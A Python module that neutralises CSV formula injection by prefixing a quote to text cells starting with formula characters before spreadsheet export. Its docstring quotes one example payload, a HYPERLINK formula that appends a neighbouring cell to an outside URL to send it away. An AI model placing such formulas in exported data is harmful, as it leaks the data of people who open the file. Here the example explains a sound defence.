"""Text cells made safe to open in a spreadsheet (CSV formula injection).

A cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is run as a formula by Excel,
LibreOffice and Google Sheets when a CSV is opened (``=HYPERLINK("http://…?"&B2,"open")`` sends a
neighbouring cell away). Following OWASP's advice, such a text cell is written with a leading ``'``, which
spreadsheets show as plain text. Numbers are left as they are; so are the product's own numeric band labels
(``-5 to < 0``), which only :func:`neutralise` callers that know a column's origin may exempt.
"""

from __future__ import annotations

from collections.abc import Iterable

import pandas as pd

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutralise_text(value: object) -> object:
    """``'`` prefixed to a string that a spreadsheet would run as a formula; anything else unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def neutralise(frame: pd.DataFrame, columns: Iterable[str], rows: pd.Series | None = None) -> pd.DataFrame:
    """A copy of ``frame`` whose text cells in ``columns`` (and ``rows``, a boolean mask) are neutralised.

    Parameters
    ----------
    frame : DataFrame
    columns : iterable of str
        The columns that carry text from the export (ids, names, category values, reasons).
    rows : Series of bool, optional
        Only these rows (default: all).

    Returns
    -------
    DataFrame
    """
    out = frame.copy()
    mask = pd.Series(True, index=frame.index) if rows is None else rows
    for column in columns:
        if column in out.columns:
            values = out[column].astype(object)
            out[column] = values.where(~mask, values.map(neutralise_text))
    return out
